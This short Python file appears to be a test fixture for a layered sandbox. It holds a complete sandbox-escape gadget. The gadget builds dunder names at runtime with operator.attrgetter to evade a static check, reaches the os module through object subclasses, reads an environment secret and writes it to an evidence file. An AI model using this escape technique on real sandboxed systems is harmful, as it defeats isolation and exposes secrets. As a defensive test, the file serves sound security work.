# Gadget: operator.attrgetter with dunder names built at runtime (the static check sees no
# dunder) walks from () to os, then reads the parent's secret and leaves a file.
# Stopped by the runtime layer's guarded attrgetter; with it off, by the OS layer.
from operator import attrgetter, methodcaller

U = "_" * 2


def _os_globals():
    base = attrgetter(f"{U}class{U}.{U}base{U}")(())
    for cls in methodcaller(f"{U}subclasses{U}")(base):
        if cls.__name__ == "_wrap_close":
            return attrgetter(f"{U}init{U}.{U}globals{U}")(cls)
    raise RuntimeError("no way out found")


def label(text):
    g = _os_globals()
    secret = g["environ"].get("@SECRET_NAME@", "no secret")
    fd = g["open"]("@EVIDENCE@/gadget_attrgetter.txt", g["O_WRONLY"] | g["O_CREAT"], 0o666)
    g["write"](fd, secret.encode())
    raise RuntimeError("escaped: " + secret)
